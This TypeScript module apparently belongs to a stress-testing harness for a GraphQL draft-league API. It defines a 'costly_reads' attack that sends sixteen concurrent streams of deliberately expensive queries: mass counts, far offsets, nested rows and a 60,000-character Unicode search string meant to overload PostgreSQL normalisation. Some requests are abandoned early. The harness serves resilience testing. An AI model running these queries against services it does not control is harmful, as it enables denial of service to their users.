import type { Attack } from '../attack.ts';
import { keepDoing, openSender } from '../send_query.ts';

const AT_ONCE = 16;
const LEAVE_AFTER_MS = 50;

/** Queries that cost the database much and the answer little: counts of everything, far offsets, searches, rows in rows. */
const QUERIES = [
  `{ ${many(20, (n) => `c${n}: drafts(first: 1, offset: ${n}) { totalCount nodes { picks { totalCount } players { totalCount } } }`)} }`,
  '{ drafts(first: 500, offset: 9999) { totalCount } leagues(first: 500) { totalCount nodes { teams(first: 15) { totalCount } } } }',
  `query ($draftId: UUID!) { draft(id: $draftId) { ${many(20, (n) => `s${n}: players(search: "a", available: true, first: 400, offset: ${n * 500}) { totalCount }`)} } }`,
  '{ playerPools(first: 9) { nodes { players(first: 500) { nodes { picks(first: 1) { nodes { draftId } } } } } } }',
  'query ($draftId: UUID!) { draft(id: $draftId) { picks { nodes { player { pool { id } } } } } }',
  // One character of these is eighteen when it is normalised, where no statement_timeout interrupts PostgreSQL.
  `query ($draftId: UUID!) { draft(id: $draftId) { players(search: "${'\ufdfa'.repeat(60_000)}", first: 1) { totalCount } } }`,
  '{ drafts(first: 1) { nodes { events(first: 1) { draft { events(first: 1) { draft { version } } } } } } }',
];

/** The costliest reads that pass the limits of a query's shape, by readers of whom some do not wait for the answer. */
export const costlyReads: Attack = {
  name: 'costly_reads',
  async run(target, run) {
    const sender = openSender(target, run);
    const { draftId } = target;
    await keepDoing(run, AT_ONCE, (count) =>
      sender.send(
        QUERIES[count % QUERIES.length] ?? '',
        { draftId },
        run.random() < 0.3 ? LEAVE_AFTER_MS : undefined,
      ),
    );
    sender.close();
  },
};

function many(count: number, text: (n: number) => string): string {
  return Array.from({ length: count }, (_, n) => text(n)).join(' ');
}
